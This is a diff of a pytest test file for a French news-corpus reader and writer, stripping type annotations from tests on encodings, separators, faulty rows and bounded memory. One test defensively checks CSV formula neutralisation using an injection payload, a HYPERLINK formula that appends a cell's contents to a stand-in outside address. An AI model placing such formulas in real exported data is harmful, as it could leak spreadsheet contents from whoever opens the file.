@@ -2,7 +2,6 @@
 
 import io
 import sys
-from pathlib import Path
 
 import pytest
 from helpers.fault_lists import read_with_faults
@@ -17,9 +16,7 @@ TABLE = "Titre;Texte;Mots-clés;Date;Rubrique\nLa 5G à Thiès;« L’été »\x
 
 @pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig", "utf-16"])
 @pytest.mark.parametrize("separator", [";", "\t", ","])
-def test_a_french_table_is_read_whatever_its_encoding_and_separator(
-    tmp_path: Path, encoding: str, separator: str
-) -> None:
+def test_a_french_table_is_read_whatever_its_encoding_and_separator(tmp_path, encoding, separator):
     path = tmp_path / "export.csv"
     path.write_bytes(TABLE.replace(";", separator).replace("\n", "\r\n").encode(encoding))
 
@@ -46,9 +43,7 @@ def test_a_french_table_is_read_whatever_its_encoding_and_separator(
     ],
     ids=["UTF-8", "Windows-1252"],
 )
-def test_only_the_row_with_a_broken_character_is_a_fault(
-    tmp_path: Path, content: bytes, line: int, what: str
-) -> None:
+def test_only_the_row_with_a_broken_character_is_a_fault(tmp_path, content, line, what):
     path = tmp_path / "export.csv"
     path.write_bytes(content)
 
@@ -59,7 +54,7 @@ def test_only_the_row_with_a_broken_character_is_a_fault(
 
 
 @pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-16"])
-def test_plain_text_is_read_whatever_its_encoding(tmp_path: Path, encoding: str) -> None:
+def test_plain_text_is_read_whatever_its_encoding(tmp_path, encoding):
     path = tmp_path / "un.txt"
     path.write_bytes("L’été à Thiès\n\nLa fibre coûte 5 €.".encode(encoding))
 
@@ -68,7 +63,7 @@ def test_plain_text_is_read_whatever_its_encoding(tmp_path: Path, encoding: str)
     assert (article.title, article.text) == ("L’été à Thiès", "La fibre coûte 5 €.")
 
 
-def test_a_named_format_takes_precedence_over_the_extension(tmp_path: Path) -> None:
+def test_a_named_format_takes_precedence_over_the_extension(tmp_path):
     path = tmp_path / "export.dat"
     path.write_text(TABLE, encoding="utf-8")
 
@@ -94,23 +89,19 @@ def test_a_named_format_takes_precedence_over_the_extension(tmp_path: Path) -> N
         ("\ufefftitle,text\nEn table,x\n", "En table"),
     ],
 )
-def test_the_format_of_standard_input_is_detected(
-    monkeypatch: pytest.MonkeyPatch, content: str, title: str
-) -> None:
+def test_the_format_of_standard_input_is_detected(monkeypatch, content, title):
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(content.encode())))
 
     assert [a.title for a in read_articles("-")] == [title]
 
 
-def test_the_format_of_standard_input_can_be_named(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_format_of_standard_input_can_be_named(monkeypatch):
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(TABLE.encode("cp1252"))))
 
     assert [a.title for a in read_articles("-", format="csv")] == ["La 5G à Thiès"]
 
 
-def test_a_parquet_table_is_read_from_standard_input(
-    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
-) -> None:
+def test_a_parquet_table_is_read_from_standard_input(monkeypatch, tmp_path):
     write_articles([Article(id="1", title="En Parquet", text="x")], tmp_path / "a.parquet")
     content = io.BytesIO((tmp_path / "a.parquet").read_bytes())
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(content))
@@ -121,7 +112,7 @@ def test_a_parquet_table_is_read_from_standard_input(
     assert [a.title for a in read_articles("-")] == ["En Parquet"]
 
 
-def test_standard_input_is_not_a_spip_site() -> None:
+def test_standard_input_is_not_a_spip_site():
     with pytest.raises(InputError, match="No config/connect.php in '-'"):
         list(read_articles("-", format="spip"))
 
@@ -135,14 +126,14 @@ def test_standard_input_is_not_a_spip_site() -> None:
         "Titre;Contenu\nLa 5G;x\n",
     ],
 )
-def test_additions_by_excel_are_ignored(tmp_path: Path, table: str) -> None:
+def test_additions_by_excel_are_ignored(tmp_path, table):
     path = tmp_path / "excel.csv"
     path.write_bytes(table.encode("cp1252"))
 
     assert [(a.title, a.text, a.meta) for a in read_articles(path)] == [("La 5G", "x", {})]
 
 
-def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path: Path) -> None:
+def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path):
     path = tmp_path / "long.jsonl"
     path.write_bytes(b'{"text": "' + b"a" * 40_000_000 + b'"}\n{"text": "Yas ouvre la 5G"}\n')
 
@@ -152,19 +143,17 @@ def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path: Path) -
     assert [(f.line, f.what) for f in faults] == [(1, "Line longer than 20 MB")]
 
 
-def test_a_web_address_is_refused_with_a_hint_to_mirror_it() -> None:
+def test_a_web_address_is_refused_with_a_hint_to_mirror_it():
     with pytest.raises(InputError, match=r"is a web address: mirror .*wget --mirror"):
         list(read_articles("https://www.osiris.sn/"))
 
 
-def test_a_mistyped_url_does_not_show_its_password() -> None:
+def test_a_mistyped_url_does_not_show_its_password():
     with pytest.raises(InputError, match=r"No file 'mysql:\*\*\*@base/osiris'"):
         list(read_articles("mysql:/lecteur:secret@base/osiris"))
 
 
-def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(
-    tmp_path: Path,
-) -> None:
+def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(tmp_path):
     formula = '=HYPERLINK("http://exemple.sn/?"&A1;"clic")'
     articles = [
         Article(
@@ -181,9 +170,7 @@ def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(
 
 @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le", "utf-32"])
 @pytest.mark.parametrize("remainder", [b"\0", b"\xd8", b"\xd8\0\0\xd8", b"\xdc\xdc\xd8"])
-def test_only_the_row_with_half_a_character_is_a_fault(
-    tmp_path: Path, encoding: str, remainder: bytes
-) -> None:
+def test_only_the_row_with_half_a_character_is_a_fault(tmp_path, encoding, remainder):
     path = tmp_path / "coupe.csv"
     mark = "\ufeff" if encoding[-2:] in {"be", "le"} else ""
     path.write_bytes(f"{mark}titre;texte\nLa 5G à Thiès;x\n".encode(encoding) + remainder)
@@ -196,9 +183,7 @@ def test_only_the_row_with_half_a_character_is_a_fault(
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
-def test_an_unbalanced_quote_costs_a_record_of_bounded_length(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, encoding: str
-) -> None:
+def test_an_unbalanced_quote_costs_a_record_of_bounded_length(tmp_path, monkeypatch, encoding):
     monkeypatch.setattr("osiris_nlp.corpus.formats.delimited.LONGEST_RECORD", 1000)
     rows = [f"Dépêche {n},Le câble atteint Kolda\n" for n in range(100)]
     path = tmp_path / "veille.csv"
@@ -215,9 +200,7 @@ def test_an_unbalanced_quote_costs_a_record_of_bounded_length(
     assert [a.id for a in articles] == [f"veille-{n + 3}" for n in range(skipped, 100)]
 
 
-def test_an_endless_line_is_one_fault_and_the_next_line_is_read(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_an_endless_line_is_one_fault_and_the_next_line_is_read(tmp_path, monkeypatch):
     monkeypatch.setattr("osiris_nlp.corpus.formats.delimited.LONGEST_RECORD", 1000)
     path = tmp_path / "veille.csv"
     path.write_text(f"titre,texte\nYas,{'a' * 50_000}\nLa 5G,x\n", encoding="utf-8")
@@ -228,7 +211,7 @@ def test_an_endless_line_is_one_fault_and_the_next_line_is_read(
     assert [fault.line for fault in faults] == [2]
 
 
-def test_a_cell_may_have_many_lines(tmp_path: Path) -> None:
+def test_a_cell_may_have_many_lines(tmp_path):
     path = tmp_path / "veille.csv"
     path.write_text('titre,texte\nYas,"' + "a\n" * 100_000 + '"\nLa 5G,x\n', encoding="utf-8")
 
@@ -249,7 +232,7 @@ def test_a_cell_may_have_many_lines(tmp_path: Path) -> None:
         ("titre;" + ";".join(["doublon"] * 900), "Duplicate column 'doublon'"),
     ],
 )
-def test_a_header_is_bounded_and_so_is_its_message(tmp_path: Path, header: str, what: str) -> None:
+def test_a_header_is_bounded_and_so_is_its_message(tmp_path, header, what):
     path = tmp_path / "large.csv"
     path.write_text(f"{header}\nLa 5G\n", encoding="utf-8")
 
@@ -260,7 +243,7 @@ def test_a_header_is_bounded_and_so_is_its_message(tmp_path: Path, header: str, 
     assert len(str(error.value)) < 2500
 
 
-def test_columns_that_excel_leaves_empty_are_not_counted(tmp_path: Path) -> None:
+def test_columns_that_excel_leaves_empty_are_not_counted(tmp_path):
     path = tmp_path / "excel.csv"
     path.write_text(f"titre;texte{';' * 16_382}\nLa 5G;x{';' * 16_382}\n", encoding="utf-8")
 
@@ -268,9 +251,7 @@ def test_columns_that_excel_leaves_empty_are_not_counted(tmp_path: Path) -> None
 
 
 @pytest.mark.parametrize("extension", [".csv", ".parquet"])
-def test_articles_with_too_many_fields_are_not_written_as_a_table(
-    tmp_path: Path, extension: str
-) -> None:
+def test_articles_with_too_many_fields_are_not_written_as_a_table(tmp_path, extension):
     articles = [Article(id=str(n), text="Wave", meta={f"champ {n}": n}) for n in range(1000)]
 
     with pytest.raises(InputError, match=r"Too many different fields for a table \(1001, .*'champ"):
@@ -280,7 +261,7 @@ def test_articles_with_too_many_fields_are_not_written_as_a_table(
     assert write_articles(articles[:900], tmp_path / f"lot{extension}") == 900
 
 
-def test_every_row_of_a_table_without_line_ends_is_read_in_bounded_memory(tmp_path: Path) -> None:
+def test_every_row_of_a_table_without_line_ends_is_read_in_bounded_memory(tmp_path):
     path = tmp_path / "creux.csv"
     with path.open("wb") as stream:
         stream.truncate(1 << 32)
@@ -299,7 +280,7 @@ list(read_articles(sys.argv[1], on_fault=lambda fault: print(fault.line, fault.w
 """
 
 
-def test_a_name_of_a_field_with_a_line_end_makes_one_header_line(tmp_path: Path) -> None:
+def test_a_name_of_a_field_with_a_line_end_makes_one_header_line(tmp_path):
     article = Article(id="1", text="Wave", meta={"jour\nde saisie": "hier", "=prix\r\n": "5"})
 
     write_articles([article], tmp_path / "lot.csv")
